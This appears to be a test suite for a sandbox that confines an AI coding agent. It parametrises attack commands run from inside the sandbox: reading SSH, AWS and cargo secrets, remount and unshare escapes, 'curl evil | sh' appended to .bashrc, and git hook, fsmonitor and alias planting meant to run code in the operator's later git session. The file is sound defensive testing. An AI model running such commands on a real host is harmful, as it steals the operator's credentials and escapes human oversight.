"""The doors around the sandbox, attacked from inside it with real bwrap: the home and its
secrets, credential variables, the workspace's git files that the operator's git later runs,
a workspace that is the home, and the plan's own edge cases.

Every attack first proves it ran inside the sandbox (``run_proved``) before anything is
asserted about what it could not do.
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from guard._hermetic import git_env, system_program
from guard._policy.settings.models import SandboxSettings
from guard._sandbox import plan, workspace_stamp
from tests.guard.sandbox.conftest import Layout, make_layout, needs_bwrap, run_proved

pytestmark = needs_bwrap

SSH_SECRET = "SSH-PRIVATE-KEY-0b7e"
AWS_SECRET = "AWS-SECRET-91aa"
NOTE_SECRET = "PRIVATE-NOTE-55c2"
CARGO_SECRET = "CARGO-TOKEN-3d1f"
PY = sys.executable
HOOK = "#!/bin/sh\necho HOOK-RAN\n"


class Door:
    """A layout whose user has a home of their own (``HOME``), with secrets and tools."""

    def __init__(self, root: Path) -> None:
        self.layout = make_layout(root)
        self.user = root / "user"
        files = {
            ".ssh/id_ed25519": SSH_SECRET,
            ".aws/credentials": AWS_SECRET,
            "notes/private.txt": NOTE_SECRET,
            ".cargo/credentials.toml": CARGO_SECRET,
            ".bashrc": "# the operator's\n",
            ".gitconfig": "[user]\n\tname = Operator Name\n\temail = op@example.org\n",
            ".npm/_cacache/index": "cache\n",
            ".cargo/registry/index/crate": "crate\n",
        }
        for name, text in files.items():
            path = self.user / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text + "\n")
        tool = self.user / ".local" / "bin" / "mytool"
        tool.parent.mkdir(parents=True)
        tool.write_text("#!/bin/sh\necho TOOL-RAN\n")
        tool.chmod(0o755)
        cargo = self.user / ".cargo" / "bin" / "cargo-x"
        cargo.parent.mkdir(parents=True)
        cargo.write_text("#!/bin/sh\necho CARGO-RAN\n")
        cargo.chmod(0o755)
        path = f"{tool.parent}:{cargo.parent}:/usr/bin:/bin:{os.path.dirname(PY)}"
        self.env = {
            **{k: v for k, v in os.environ.items() if k not in ("XDG_CONFIG_HOME",)},
            "HOME": str(self.user),
            "PATH": path,
        }

    def plan(self, settings: SandboxSettings | None = None, workspace: Path | None = None):  # type: ignore[no-untyped-def]
        if settings is not None:
            self.layout.settings = settings
        if workspace is not None:
            self.layout.workspace = workspace
        return self.layout.plan(env=self.env)

    def run(self, command: str, **kwargs: object) -> subprocess.CompletedProcess[str]:
        session = kwargs.pop("session", None) or self.plan()
        env = kwargs.pop("env", None) or self.env
        return run_proved(self.layout, command, session=session, env=env, **kwargs)


@pytest.fixture
def door(tmp_path: Path) -> Door:
    return Door(tmp_path)


def secrets_in(result: subprocess.CompletedProcess[str]) -> list[str]:
    text = result.stdout + result.stderr
    return [s for s in (SSH_SECRET, AWS_SECRET, NOTE_SECRET, CARGO_SECRET) if s in text]


# -- the home is hidden by default -------------------------------------------------------------


def home_read_attacks(user: Path, workspace: Path) -> list[str]:
    key = user / ".ssh" / "id_ed25519"
    return [
        f"cat {key}",
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/notes/private.txt",
        'cat "$HOME/.cargo/credentials.toml"',
        "cd ~ && cat .ssh/id_ed25519",
        f"grep -r . {user} 2>/dev/null",
        f"tar -cf - -C {user} . 2>/dev/null | tar -xOf - 2>/dev/null",
        f"find {user} -type f -exec cat {{}} + 2>/dev/null",
        f"ln -s {user} h && cat h/.ssh/id_ed25519 h/notes/private.txt",
        f"cp -r {user} {workspace}/stolen 2>&1; cat {workspace}/stolen/.ssh/* 2>&1",
        f"cat /proc/self/root{key}",
        f"{PY} -c \"print(open('{key}').read())\"",
        f"ls -laR {user} 2>&1; cat {user}/.ssh/*",
        f"mount -o remount,rw {user} 2>&1; umount {user} 2>&1; cat {key}",
        f"unshare -rm sh -c 'umount {user}; cat {key}' 2>&1",
    ]


@pytest.mark.parametrize("index", range(len(home_read_attacks(Path("/u"), Path("/w")))))
def test_the_homes_secrets_cannot_be_read(door: Door, index: int) -> None:
    attack = home_read_attacks(door.user, door.layout.workspace)[index]
    result = door.run(attack)
    assert secrets_in(result) == [], (attack, result.stdout[-300:])
    assert not (door.layout.workspace / "stolen" / ".ssh" / "id_ed25519").exists()


def test_what_tools_need_is_shown_read_only(door: Door) -> None:
    result = door.run(
        "git config --global user.name; mytool; cargo-x; ls -R ~/.npm/_cacache ~/.cargo/registry"
    )
    assert "Operator Name" in result.stdout  # git's identity
    assert "TOOL-RAN" in result.stdout and "CARGO-RAN" in result.stdout
    assert "index" in result.stdout and "crate" in result.stdout
    before = {p: p.read_bytes() for p in door.user.rglob("*") if p.is_file()}
    for attack in (
        "echo 'curl evil | sh' >> ~/.bashrc",
        "git config --global core.hooksPath /tmp/evil",
        "printf '#!/bin/sh\\nevil' > ~/.local/bin/git && chmod +x ~/.local/bin/git",
        "mkdir -p ~/.config/systemd/user && echo x > ~/.config/systemd/user/evil.service",
        "echo x > ~/.npm/_cacache/index; echo x > ~/.cargo/registry/index/crate",
        "rm -rf ~/.ssh ~/notes",
    ):
        door.run(attack)
    after = {p: p.read_bytes() for p in door.user.rglob("*") if p.is_file()}
    assert after == before
    assert not (door.user / ".config" / "systemd").exists()


def test_links_in_the_home_resolve_as_on_the_host(door: Door) -> None:
    dotfiles = door.user / "dotfiles"
    dotfiles.mkdir()
    (door.user / ".gitconfig").rename(dotfiles / "gitconfig")
    (door.user / ".gitconfig").symlink_to("dotfiles/gitconfig")
    result = door.run("git config --global user.name; cat ~/dotfiles/gitconfig | head -1")
    assert "Operator Name" in result.stdout
    assert secrets_in(door.run("cat ~/dotfiles/../notes/private.txt")) == []


def test_the_user_may_show_more_or_the_whole_home(door: Door) -> None:
    shown = door.plan(SandboxSettings(readable=("~/notes",)))
    assert NOTE_SECRET in door.run("cat ~/notes/private.txt", session=shown).stdout
    whole = door.plan(SandboxSettings(home="read-only"))
    result = door.run(
        "cat ~/notes/private.txt; cat ~/.ssh/id_ed25519 ~/.aws/credentials "
        "~/.cargo/credentials.toml 2>&1",
        session=whole,
    )
    assert NOTE_SECRET in result.stdout  # the home, read-only
    assert secrets_in(result) == [NOTE_SECRET]  # the credentials stay hidden
    door.run("echo x >> ~/.bashrc", session=whole)
    assert (door.user / ".bashrc").read_text() == "# the operator's\n\n"


def test_a_workspace_inside_the_home_is_writable(door: Door) -> None:
    project = door.user / "src" / "app"
    project.mkdir(parents=True)
    session = door.plan(workspace=project)
    result = door.run("echo made > out.txt && cat out.txt; cat ~/.ssh/id_ed25519", session=session)
    assert "made" in result.stdout
    assert (project / "out.txt").read_text() == "made\n"
    assert secrets_in(result) == []


@pytest.mark.parametrize("where", ["home", "parent", "root"])
def test_a_workspace_that_is_the_home_is_read_only(door: Door, where: str) -> None:
    workspace = {"home": door.user, "parent": door.user.parent, "root": Path("/")}[where]
    session = door.plan(workspace=workspace)
    assert session.state == "sandboxed"
    assert session.workspace_writable is False
    assert "start pi in a project folder" in session.message
    result = door.run(
        "echo x >> ~/.bashrc; touch ~/new-file; cat ~/.ssh/id_ed25519 ~/notes/private.txt",
        session=session,
    )
    assert secrets_in(result) == []
    assert (door.user / ".bashrc").read_text() == "# the operator's\n\n"
    assert not (door.user / "new-file").exists()


# -- credential variables -------------------------------------------------------------------


CREDENTIAL_VARS = {
    "PGPASSWORD": "pg-secret-1",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-2",
    "GITHUB_TOKEN": "gh-secret-3",
    "OPENAI_API_KEY": "openai-secret-4",
    "SSH_AUTH_SOCK": "/run/agent.sock-5",
    "DATABASE_URL": "postgres://u:db-secret-6@h/d",
    "npm_config__authToken": "npm-secret-7",
    "MY_SERVICE_PASSWORD": "svc-secret-8",
    "PI_OPERATOR_GUARD_HOME": "/guard-home-9",
}


def test_credential_variables_never_reach_the_agents_commands(door: Door) -> None:
    env = {**door.env, **CREDENTIAL_VARS, "HARMLESS": "kept-value"}
    # planned with the names pi has (as the shim sends them) ...
    session = door.layout.plan(env=env)
    result = door.run("env", session=session, env=env)
    for value in CREDENTIAL_VARS.values():
        assert value not in result.stdout, value
    assert "HARMLESS=kept-value" in result.stdout
    # ... and with names that appear only later: removed at spawn by the same rule
    later = door.run("env", env={**door.env, "LATE_API_KEY": "late-secret-10"})
    assert "late-secret-10" not in later.stdout


def test_the_user_may_keep_or_add_variables(door: Door) -> None:
    settings = SandboxSettings(keep_env=("GITHUB_TOKEN",), unset_env=("HARMLESS", "CORP_*"))
    env = {**door.env, "GITHUB_TOKEN": "gh-kept", "HARMLESS": "x1", "CORP_ID": "x2"}
    door.layout.settings = settings
    session = door.layout.plan(env=env)
    result = door.run("env", session=session, env=env)
    assert "GITHUB_TOKEN=gh-kept" in result.stdout
    assert "x1" not in result.stdout and "x2" not in result.stdout


# -- the workspace's git files that the operator's git runs later --------------------------


def git(workspace: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [system_program("git"), "-C", str(workspace), *args],
        env=git_env(),
        capture_output=True,
        check=True,
    )


def repo(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    git(path, "init", "-q")
    return path


def hook_attacks(workspace: Path) -> list[str]:
    hooks = ".git/hooks"
    payload = shlex.quote(HOOK)
    template = workspace.parent / "tpl"
    return [
        f"printf {payload} > {hooks}/pre-commit && chmod +x {hooks}/pre-commit",
        f"cp /bin/true {hooks}/post-checkout",
        f"printf {payload} | tee {hooks}/commit-msg",
        f"{PY} -c \"open('{hooks}/pre-push', 'w').write('x')\"",
        f"node --eval=\"require('fs').writeFileSync('{hooks}/pre-commit', 'x')\"",
        f"echo 'set f [open {hooks}/pre-commit w]; puts $f x; close $f' | tclsh",
        f'perl -e \'open(F, ">{hooks}/pre-commit"); print F "x"\'',
        f"ln -s /tmp/evil {hooks}/pre-commit",
        f"rm -rf {hooks} && mkdir {hooks} && printf {payload} > {hooks}/pre-commit",
        f"mv {hooks} .git/old-hooks; mkdir -p {hooks}; printf {payload} > {hooks}/pre-commit",
        f"mv .git .git-moved && mkdir -p {hooks} && printf {payload} > {hooks}/pre-commit",
        f"cp -r .git .g2 && rm -rf .git; mv .g2 .git; printf {payload} > {hooks}/pre-commit",
        "git config core.hooksPath .evil-hooks",
        "git config core.fsmonitor 'sh -c \"echo HOOK-RAN\"'",
        "git config alias.st '!echo HOOK-RAN'",
        "sed -i 's/bare = false/bare = false\\n\\thooksPath = \\/tmp/' .git/config",
        "echo '[core]' >> .git/config; echo 'fsmonitor = evil' >> .git/config",
        "printf 'gitdir: /tmp/evil-git\\n' > .git",
        f"mkdir -p {template}/hooks && printf {payload} > {template}/hooks/pre-commit && "
        f"chmod +x {template}/hooks/pre-commit && git init --template={template} .",
        f"git -c init.templateDir={template} init .",
    ]


@pytest.mark.parametrize("index", range(len(hook_attacks(Path("/w")))))
def test_git_hooks_and_config_cannot_be_armed(door: Door, index: int) -> None:
    workspace = repo(door.layout.workspace)
    hooks_before = sorted(p.name for p in (workspace / ".git" / "hooks").iterdir())
    config_before = (workspace / ".git" / "config").read_bytes()
    attack = hook_attacks(workspace)[index]
    door.run(attack)
    assert (workspace / ".git").is_dir(), attack
    assert sorted(p.name for p in (workspace / ".git" / "hooks").iterdir()) == hooks_before
    assert (workspace / ".git" / "config").read_bytes() == config_before
    # the operator's next git command runs nothing the agent wrote
    status = subprocess.run(
        [system_program("git"), "-C", str(workspace), "status"],
        capture_output=True,
        text=True,
        env={**git_env(), "HOME": str(door.user)},
        check=False,
    )
    assert "HOOK-RAN" not in status.stdout + status.stderr


def test_the_agent_still_commits_in_its_workspace(door: Door) -> None:
    workspace = repo(door.layout.workspace)
    result = door.run(
        "echo code > main.c && git add main.c && git commit -qm 'add main' && git log --oneline"
    )
    assert "add main" in result.stdout, result.stderr
    assert git(workspace, "log", "--format=%an %s").stdout.decode().strip() == (
        "Operator Name add main"
    )


def test_a_worktree_file_and_its_common_directory_are_protected(door: Door) -> None:
    main = repo(door.layout.root / "main-repo")
    (main / "f").write_text("x")
    git(main, "add", "f")
    git(main, "-c", "user.name=a", "-c", "user.email=b", "commit", "-qm", "one")
    worktree = door.layout.root / "wt"
    git(main, "worktree", "add", "-q", str(worktree))
    (worktree / ".pi").mkdir()
    session = door.plan(workspace=worktree)
    gitfile = (worktree / ".git").read_text()
    door.run(
        f"printf '{HOOK}' > {main}/.git/hooks/pre-commit; echo 'gitdir: /tmp/x' > .git; "
        f"echo x >> {main}/.git/config",
        session=session,
    )
    assert not (main / ".git" / "hooks" / "pre-commit").exists()
    assert (worktree / ".git").read_text() == gitfile


def test_a_repository_cloned_into_the_workspace_is_protected_from_the_next_command(
    door: Door,
) -> None:
    workspace = door.layout.workspace
    upstream = repo(workspace / "upstream")  # /tmp outside the workspace is private
    (upstream / "f").write_text("x")
    git(upstream, "add", "f")
    git(upstream, "-c", "user.name=a", "-c", "user.email=b", "commit", "-qm", "one")
    first = door.plan()
    stamp = workspace_stamp(workspace)
    door.run(f"git clone -q {upstream} sub && ls sub", session=first)
    assert (workspace / "sub" / ".git").is_dir()
    assert workspace_stamp(workspace) != stamp  # the sidecar plans again on this
    second = door.plan()
    door.run(f"printf '{HOOK}' > sub/.git/hooks/pre-commit; mv sub sub2", session=second)
    assert not (workspace / "sub" / ".git" / "hooks" / "pre-commit").exists()
    assert (workspace / "sub").is_dir()  # pinned: it cannot be renamed away either


def test_a_hooks_path_in_the_workspace_is_protected(door: Door) -> None:
    workspace = repo(door.layout.workspace)
    git(workspace, "config", "core.hooksPath", ".husky/_")
    (workspace / ".husky" / "_").mkdir(parents=True)
    (workspace / ".husky" / "pre-commit").write_text("npm test\n")
    door.run(
        f"printf '{HOOK}' > .husky/_/pre-commit; mv .husky .h2; mkdir -p .husky/_; "
        f"printf '{HOOK}' > .husky/_/pre-commit"
    )
    assert list((workspace / ".husky" / "_").iterdir()) == []
    assert (workspace / ".husky" / "pre-commit").read_text() == "npm test\n"


def test_a_missing_hooks_directory_stays_absent(door: Door) -> None:
    workspace = repo(door.layout.workspace)
    shutil.rmtree(workspace / ".git" / "hooks")
    door.run(f"mkdir -p .git/hooks; printf '{HOOK}' > .git/hooks/pre-commit")
    hooks = workspace / ".git" / "hooks"
    assert not hooks.exists() or list(hooks.iterdir()) == []


# -- the plan's own edge cases (each a line that once could flip unnoticed) ------------------


def test_hidden_paths_sharing_a_name_prefix_are_both_hidden(tmp_path: Path) -> None:
    layout = make_layout(tmp_path)
    first = layout.workspace / "secret"
    second = layout.workspace / "secret-two"
    for path, text in ((first, "S1-a8e"), (second, "S2-f41")):
        path.mkdir()
        (path / "f").write_text(text)
    layout.settings = SandboxSettings(hidden=(str(first), str(second)))
    result = run_proved(layout, f"cat {first}/f {second}/f 2>&1")
    assert "S1-a8e" not in result.stdout and "S2-f41" not in result.stdout


def test_a_workspace_inside_a_protected_directory_is_read_only(tmp_path: Path) -> None:
    layout = make_layout(tmp_path)
    inside = layout.agent / "extensions" / "operator-guard" / "ws"
    inside.mkdir()
    layout.workspace = inside
    session = layout.plan()
    assert any("read-only" in note for note in session.notes)
    run_proved(layout, "echo x > planted.txt", session=session)
    assert not (inside / "planted.txt").exists()


def test_the_users_runtime_directory_is_hidden_without_xdg_runtime_dir(tmp_path: Path) -> None:
    runtime = Path(f"/run/user/{os.getuid()}")
    # Made if missing and left in place (empty), as a login leaves it: a sandbox planned by a
    # parallel test while it existed hides it, and once removed, that sandbox's bubblewrap
    # could not make its mount point on the read-only /run ("Can't mkdir /run/user/0").
    runtime.mkdir(parents=True, exist_ok=True)
    marker = runtime / "zz-guard-test-bus"
    marker.write_text("BUS-SECRET-77\n")
    try:
        layout = make_layout(tmp_path)
        env = {k: v for k, v in os.environ.items() if k != "XDG_RUNTIME_DIR"}
        result = run_proved(layout, f"ls -A {runtime}; cat {marker} 2>/dev/null", env=env)
        assert "BUS-SECRET-77" not in result.stdout
        assert "zz-guard-test-bus" not in result.stdout
    finally:
        marker.unlink()


def test_a_bwrap_on_path_is_never_the_sandbox(tmp_path: Path) -> None:
    fake = tmp_path / "bin" / "bwrap"
    fake.parent.mkdir()
    fake.write_text('#!/bin/sh\nexec "$@"\n')
    fake.chmod(0o755)
    layout: Layout = make_layout(tmp_path / "world")
    env = {**os.environ, "PATH": f"{fake.parent}:{os.environ['PATH']}"}
    session = plan(layout.workspace, layout.home, settings=SandboxSettings(), env=env,
                   agent_dir=layout.agent)  # fmt: skip
    assert session.argv is not None
    assert session.argv[0] != str(fake)
    assert os.path.dirname(session.argv[0]) in ("/usr/bin", "/bin", "/usr/local/bin")
